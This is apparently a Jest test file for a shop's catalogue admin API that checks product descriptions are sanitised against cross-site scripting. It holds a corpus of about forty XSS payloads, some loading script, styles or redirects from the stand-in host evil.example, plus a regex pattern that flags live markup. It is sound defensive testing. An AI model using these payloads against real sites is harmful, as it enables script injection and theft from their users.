import { catalogAdminContract as contract, type ProductPage } from '@hanout/contracts';
import { useApp } from '@hanout/testing';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { TestStaff } from '../../orders/testing/test-staff.ts';
import { cleanHtml } from '../application/clean-html.ts';
import { Catalogue } from '../testing/catalog.ts';

/** Ways to run a script in somebody else's page: elements, handlers, addresses, styles, broken and nested markup. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg/onload=alert(1)>',
  '<svg><script xlink:href=data:,alert(1)></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example" target=_blank onclick=alert(1)>x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=phone><button formaction=javascript:alert(1)>x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "';alert(1)//",
  '\u2028<script>alert(1)</script>\u2029',
  '<x onpointerenter=alert(1)>x</x>',
];
const ALIVE =
  /<\s*\/?\s*(script|svg|math|iframe|object|embed|style|link|base|meta|form|input|button|video|img|template|textarea|noscript|body|details)\b|<[^>]*\son\w+\s*=|<[^>]*(javascript|vbscript|data)\s*:|<[^>]*\sstyle\s*=/i;

describe('hostile texts of products', () => {
  const test = useApp({ env: { HANOUT_ADDRESS_CEILING: '100000' } });
  let shop: Catalogue;
  let staff: TestStaff;
  let id: string;
  let version = 1;

  beforeAll(async () => {
    shop = await Catalogue.open(test.app);
    staff = await TestStaff.signIn(test.app, shop.shopId, 'catalogue_editor');
    id = (await shop.product('Cible', { mainCategoryId: await shop.category('Tout') })).productId;
  });

  const page = async () => (await shop.get<ProductPage>('/web/public/api/product/cible')).body;

  it('the list of what lives notices every one of them where nothing cleans', () => {
    const dead = CORPUS.filter((text) => !ALIVE.test(text));
    // The pattern does not undo entities (hrefs are looked at below); the other breaks out of a script, and no text is put into one.
    expect(dead).toEqual(['<a href="java&#x09;script:alert(1)">x</a>', "';alert(1)//"]);
  });

  it('are harmless in the description, in the database and on the page; the rest of it stays', async () => {
    for (const attack of CORPUS) {
      const body = {
        ...{ version, name: 'Cible', shortDescription: 'x', seoTitle: 'x', seoDescription: 'x' },
        longDescription: `<h2>Avant</h2>${attack}`,
      };
      const saved = await staff.call<{ version: number }>(contract.language, {
        params: { id, locale: 'fr' },
        body,
      });
      expect([attack, saved.status]).toEqual([attack, 200]);
      version = saved.body.version;
      const { longDescription } = await page();
      expect([attack, ALIVE.test(longDescription)]).toEqual([attack, false]);
      expect(longDescription).toMatch(/^<h2>Avant<\/h2>/);
      expect(longDescription).not.toMatch(/href="(?!https?:|mailto:|tel:)/);
      expect(cleanHtml(longDescription)).toBe(longDescription);
      const [row] = await test.database.query<{ text: string }>(
        `select long_description as text from product_texts where product_id = $1 and locale = 'fr'`,
        [id],
      );
      expect([attack, ALIVE.test(row?.text ?? '')]).toEqual([attack, false]);
    }
  });

  it('that the database cannot keep are refused', async () => {
    const body = { version, name: 'a\0b', shortDescription: 'x', seoTitle: 'x', seoDescription: 'x' };
    const { status } = await staff.call(contract.language, { params: { id, locale: 'fr' }, body });
    expect(status).toBe(422);
  });

  it('written past the use cases are cleaned before a page shows them', async () => {
    await test.database.query(
      `update product_texts set long_description = '<p>Bien</p><script>alert(1)</script>' where product_id = $1`,
      [id],
    );
    await shop.run((em) => shop.api.rebuild(em, shop.shopId, [id]));
    expect((await page()).longDescription).toBe('<p>Bien</p>');
  });

  it('are plain text everywhere else: kept as they are, for pages to escape', async () => {
    const attack = '<img src=x onerror=alert(1)>';
    const body = {
      version,
      name: attack,
      shortDescription: attack,
      seoTitle: attack,
      seoDescription: attack,
    };
    await staff.call(contract.language, { params: { id, locale: 'fr' }, body });
    const { name, shortDescription, seoTitle, slug } = await page();
    expect([name, shortDescription, seoTitle]).toEqual([attack, attack, attack]);
    expect(slug).toBe('cible');
  });
});
